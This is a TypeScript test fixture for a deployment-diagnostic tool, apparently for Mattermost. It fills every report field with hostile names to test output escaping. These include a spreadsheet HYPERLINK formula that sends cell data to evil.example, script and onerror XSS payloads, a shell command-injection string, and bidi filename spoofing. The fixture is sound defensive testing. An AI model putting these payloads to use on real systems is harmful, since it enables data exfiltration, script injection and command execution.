import {INSTANCE, PLUGIN, READY} from './facts.ts';
import type {Changes} from './facts.ts';

/** Names somebody else chose, made to be taken for something they are not by whoever shows them. */
export const NASTY_NAMES = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '<script>alert(1)</script><img src=x onerror=alert(1)>',
    '\u202egnp.exe\u202c and \u200bzero\u200bwidth',
    'a|b|c',
    '@channel @all @here',
    '\u001b[31mred\u001b[0m\u0007',
    'one\r\n# two\r\n```\r\nthree',
    '[click](https://evil.example) ![x](https://evil.example/x.png)',
    'https://evil.example www.evil.example mailto:a@evil.example',
    '`code` *bold* _it_ ~~no~~ $x$ #tag ~town-square :bomb:',
    "'; $(touch /tmp/owned) `id` && true #",
    '+1-1',
    '-2+3',
    '\t=1+1',
    '  @SUM(A1)',
    '"quoted","cells"',
    '{plural} {0} \u0027{x}\u0027 <b>',
] as const;

/** The ready sample with every foreign name turned hostile. One output after the other runs through it. */
export const NASTY: Changes = {
    deployment: {
        ...READY.deployment,
        name: NASTY_NAMES[0],
        service: NASTY_NAMES[10],
        host: NASTY_NAMES[1],
        folder: NASTY_NAMES[6],
        files: [NASTY_NAMES[10], NASTY_NAMES[2]],
        container: NASTY_NAMES[10],
        databaseService: NASTY_NAMES[5],
        siteUrl: NASTY_NAMES[8],
    },
    deployment_owner: {tool: 'portainer', evidence: NASTY_NAMES[7]},
    host_architecture: NASTY_NAMES[3],
    cluster: {enabled: true, nodes: 2, versions: [NASTY_NAMES[4], NASTY_NAMES[12]]},
    containers_seen: 2,
    instances: [
        {...INSTANCE, name: NASTY_NAMES[10], state: 'restarting'},
        {...INSTANCE, name: NASTY_NAMES[0], image: NASTY_NAMES[1], imageId: `sha256:${'c'.repeat(64)}`},
    ],
    other_variant_containers: [NASTY_NAMES[10]],
    running_image: {...READY.running_image, reference: NASTY_NAMES[1], pin: 'floating'},
    image_source: {kind: 'process_environment', file: NASTY_NAMES[6], line: 1, variable: NASTY_NAMES[9]},
    fips_image: {...READY.fips_image, reference: NASTY_NAMES[8], where: 'absent'},
    container: {...READY.container, health: 'unhealthy', user: NASTY_NAMES[11]},
    compose_drift: {services: [NASTY_NAMES[10], NASTY_NAMES[13]]},
    front_proxies: [{kind: 'nginx', container: NASTY_NAMES[10]}],
    licence: {licensed: true, sku: NASTY_NAMES[14]},
    saml: {enabled: true, signatureAlgorithm: NASTY_NAMES[15]},
    tls_listener: {enabled: true, minimumVersion: '1.2', ciphers: [NASTY_NAMES[4]]},
    crypto_environment: {variables: [NASTY_NAMES[0]], mounts: [NASTY_NAMES[6]]},
    database_credentials: [{name: NASTY_NAMES[11], from: 'environment', length: 'short'}],
    database_role_clients: [{application: NASTY_NAMES[0], sessions: 1}],
    jobs_in_progress: [NASTY_NAMES[12]],
    plugins: NASTY_NAMES.map((name, index) => ({
        ...PLUGIN,
        id: index === 0 ? 'com.mattermost.calls' : name,
        name,
        state: 'failed',
        stored: false,
    })),
    backup: {takenAt: NASTY_NAMES[7], by: NASTY_NAMES[4], reference: NASTY_NAMES[1]},
};
